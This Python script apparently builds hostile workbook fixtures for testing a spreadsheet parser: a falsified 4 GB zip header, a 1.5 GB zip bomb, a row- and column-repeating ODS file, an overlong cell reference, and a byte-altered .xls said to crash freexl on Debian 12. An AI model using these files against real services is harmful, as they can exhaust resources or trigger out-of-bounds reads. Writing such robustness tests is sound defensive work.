#!/usr/bin/env python3
"""Writes workbooks made to hurt a reader into a folder (made at run time, never stored):

  claims-4gb.xlsx   a worksheet member whose zip headers claim 4 GB
  bomb.xlsx         a worksheet member of 1.5 GB of zero bytes, compressed to about 1.5 MB
  repeat.ods        a header row, then a row repeated 1,048,575 times of a cell repeated 16,384 times
  longref.xlsx      a header row and a cell whose reference has 20 letters
  crash.xls         the sample.xls of these tests with one byte of a record set to 0, which makes
                    freexl (Debian 12) read outside its buffers and crash

Usage: make_hostile_workbooks.py FOLDER [NAME ...]
"""
import os
import struct
import sys
import zipfile
import zlib

WORKBOOK = (b'<?xml version="1.0" encoding="UTF-8"?>'
            b'<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
            b'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
            b'<sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>')
RELS = (b'<?xml version="1.0" encoding="UTF-8"?>'
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        b'relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>')


def sheet(cells):
    """cells: (reference, text) pairs as inline strings."""
    body = b''.join(b'<c r="%s" t="inlineStr"><is><t>%s</t></is></c>' % (ref, text)
                    for ref, text in cells)
    return (b'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats'
            b'.org/spreadsheetml/2006/main"><sheetData><row r="1">' + body
            + b'</row></sheetData></worksheet>')


def xlsx(path, sheet_bytes):
    with zipfile.ZipFile(path, 'w', zipfile.ZIP_DEFLATED) as z:
        z.writestr('xl/workbook.xml', WORKBOOK)
        z.writestr('xl/_rels/workbook.xml.rels', RELS)
        z.writestr('xl/worksheets/sheet1.xml', sheet_bytes)


def claims_4gb(path):
    xlsx(path, sheet([(b'A1', b'Part Number'), (b'B1', b'Product Name')]))
    data = bytearray(open(path, 'rb').read())
    name = b'xl/worksheets/sheet1.xml'
    claim = struct.pack('<I', 0xFFFFFFF0)
    local = data.find(b'PK\x03\x04')
    while local >= 0:
        if data[local + 30:local + 30 + len(name)] == name:
            data[local + 22:local + 26] = claim
        local = data.find(b'PK\x03\x04', local + 4)
    central = data.find(b'PK\x01\x02')
    while central >= 0:
        if data[central + 46:central + 46 + len(name)] == name:
            data[central + 24:central + 28] = claim
        central = data.find(b'PK\x01\x02', central + 4)
    open(path, 'wb').write(bytes(data))


def bomb(path, size=1536 << 20):
    """A stored member would be as large as the bomb: the deflate stream is built from one
    compressed megabyte of zeros repeated, which inflates to the same megabyte each time."""
    chunk = bytes(1 << 20)
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = compressor.compress(chunk) + compressor.flush(zlib.Z_FULL_FLUSH)
    again = compressor.compress(chunk) + compressor.flush(zlib.Z_FULL_FLUSH)
    assert block == again
    count = size // len(chunk)
    deflated = block * count + compressor.flush(zlib.Z_FINISH)
    crc = 0
    for _ in range(count):
        crc = zlib.crc32(chunk, crc)
    xlsx(path, sheet([(b'A1', b'Part Number')]))
    # Replace the worksheet member by the bomb, written by hand.
    with zipfile.ZipFile(path) as z:
        others = [(i.filename, z.read(i.filename)) for i in z.infolist()
                  if i.filename != 'xl/worksheets/sheet1.xml']
    with zipfile.ZipFile(path, 'w', zipfile.ZIP_DEFLATED) as z:
        for name, data in others:
            z.writestr(name, data)
    with open(path, 'rb') as f:
        data = f.read()
    directory_at = data.find(b'PK\x01\x02')
    end_at = data.rfind(b'PK\x05\x06')
    entries = struct.unpack('<H', data[end_at + 10:end_at + 12])[0]
    name = b'xl/worksheets/sheet1.xml'
    offset = directory_at
    local = (struct.pack('<IHHHHHIIIHH', 0x04034b50, 20, 0, 8, 0, 0, crc, len(deflated), size,
                         len(name), 0) + name)
    central = (struct.pack('<IHHHHHHIIIHHHHHII', 0x02014b50, 20, 20, 0, 8, 0, 0, crc,
                           len(deflated), size, len(name), 0, 0, 0, 0, 0, offset) + name)
    directory = data[directory_at:end_at] + central
    end = struct.pack('<IHHHHIIH', 0x06054b50, 0, 0, entries + 1, entries + 1, len(directory),
                      offset + len(local) + len(deflated), 0)
    with open(path, 'wb') as f:
        f.write(data[:directory_at] + local + deflated + directory + end)


def repeat_ods(path):
    content = (b'<?xml version="1.0" encoding="UTF-8"?>'
               b'<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:'
               b'office:1.0" xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
               b'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0">'
               b'<office:body><office:spreadsheet><table:table table:name="Sheet1">'
               b'<table:table-row><table:table-cell office:value-type="string"><text:p>Part Number'
               b'</text:p></table:table-cell><table:table-cell office:value-type="string"><text:p>'
               b'Product Name</text:p></table:table-cell></table:table-row>'
               b'<table:table-row table:number-rows-repeated="1048575"><table:table-cell '
               b'table:number-columns-repeated="16384" office:value-type="string"><text:p>x'
               b'</text:p></table:table-cell></table:table-row>'
               b'</table:table></office:spreadsheet></office:body></office:document-content>')
    with zipfile.ZipFile(path, 'w', zipfile.ZIP_DEFLATED) as z:
        z.writestr('mimetype', b'application/vnd.oasis.opendocument.spreadsheet')
        z.writestr('content.xml', content)


def long_reference(path):
    xlsx(path, sheet([(b'A1', b'Part Number'), (b'B1', b'Product Name'),
                      (b'ABCDEFGHIJKLMNOPQRST1', b'twenty letters')]))


def crash_xls(path):
    here = os.path.dirname(os.path.abspath(__file__))
    data = bytearray(open(os.path.join(here, 'data', 'sample.xls'), 'rb').read())
    assert data[4390] == 126, 'sample.xls changed: find another byte'
    data[4390] = 0
    open(path, 'wb').write(bytes(data))


MAKERS = {'claims-4gb.xlsx': claims_4gb, 'bomb.xlsx': bomb, 'repeat.ods': repeat_ods,
          'longref.xlsx': long_reference, 'crash.xls': crash_xls}


def main():
    folder = sys.argv[1]
    names = sys.argv[2:] or list(MAKERS)
    os.makedirs(folder, exist_ok=True)
    for name in names:
        MAKERS[name](os.path.join(folder, name))


if __name__ == '__main__':
    main()
